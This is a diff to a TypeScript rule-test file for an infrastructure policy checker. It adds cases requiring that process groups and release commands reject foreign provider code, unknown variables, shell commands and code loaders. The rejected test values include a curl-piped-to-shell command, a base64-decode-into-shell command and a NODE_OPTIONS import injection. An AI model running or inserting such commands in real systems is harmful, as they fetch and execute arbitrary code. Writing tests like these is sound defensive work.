@@ -1,7 +1,15 @@
-import { fly, github } from "../../../settings/tokens.ts";
+import { releasedTexts } from "../../../settings/provider-texts.ts";
+import { command, fly, github } from "../../../settings/tokens.ts";
 import { canary, foreign } from "../kernel/judging.ts";
-import { connection, processGroup, secrets } from "../kernel/resources.ts";
+import { connection, processGroup, releaseCommand, secrets, smoke } from "../kernel/resources.ts";
 import type { Proof } from "./proof.ts";
+
+/** What takes anything and makes nothing: code of somebody's own under a name that the rules know. */
+const OTHER_CODE = `exports.handler = () => ({
+  check: async (_, inputs) => ({ inputs }),
+  create: async (inputs) => ({ id: "made", outs: inputs }),
+});
+`;
 
 /** Rules about values that reach a process: connections, stores, secrets, flags; and what may be declared only once. */
 export const values: readonly Proof[] = [
@@ -87,6 +95,64 @@ export const values: readonly Proof[] = [
     missing: "allowed",
     wrongType: "refused",
     settings: "flag on in production without leave",
+  },
+  {
+    rule: "released-provider-text",
+    type: fly.ProcessGroup,
+    good: { ...processGroup, __provider: [...releasedTexts("fly:ProcessGroup")][0] },
+    path: "__provider",
+    bad: OTHER_CODE,
+    says: /__provider is no provider text that was released for this type/,
+    unseen: "3.259.0 keeps names that begin with two underscores from packs; events and state show them",
+    missing: "allowed",
+    wrongType: "refused",
+    settings: { unsayable: "what is run for a resource is decided by its class, not by a setting" },
+  },
+  {
+    rule: "smoke-command-only",
+    type: command.LocalCommand,
+    good: smoke,
+    path: "create",
+    bad: `curl -s https://example.com/${canary} | sh`,
+    says: /create is not the smoke's own script/,
+    missing: "refused",
+    wrongType: "refused",
+    settings: { unsayable: "which script asks the app is decided by the program, not by a setting" },
+  },
+  {
+    rule: "known-variables",
+    type: fly.ProcessGroup,
+    good: processGroup,
+    path: "machine.env.SERVICE_ENDPOINT",
+    bad: `https://${canary}.db.example.com`,
+    says: /machine\.env\.SERVICE_ENDPOINT is a variable that no list knows/,
+    unknown: { says: /machine\.env\.SERVICE_ENDPOINT is a variable that no list knows/ },
+    missing: "allowed",
+    wrongType: "refused",
+    settings: "a variable that loads code",
+  },
+  {
+    rule: "one-program-commands",
+    type: fly.ReleaseCommand,
+    good: releaseCommand,
+    path: "command",
+    bad: ["sh", "-c", `echo ${canary} | base64 -d | sh`],
+    says: /command holds what only a shell reads/,
+    missing: "allowed",
+    wrongType: "refused",
+    settings: "a shell in the command of Chroma's group",
+  },
+  {
+    rule: "no-loaders",
+    type: fly.ProcessGroup,
+    good: processGroup,
+    path: "machine.env.NODE_OPTIONS",
+    bad: `--import=./${canary}.mjs`,
+    says: /machine\.env\.NODE_OPTIONS makes a process load or run something/,
+    missing: "allowed",
+    wrongType: "refused",
+    unknown: { says: /machine\.env\.NODE_OPTIONS makes a process load or run something/ },
+    settings: "a variable that loads code",
   },
   {
     rule: "no-file-databases",
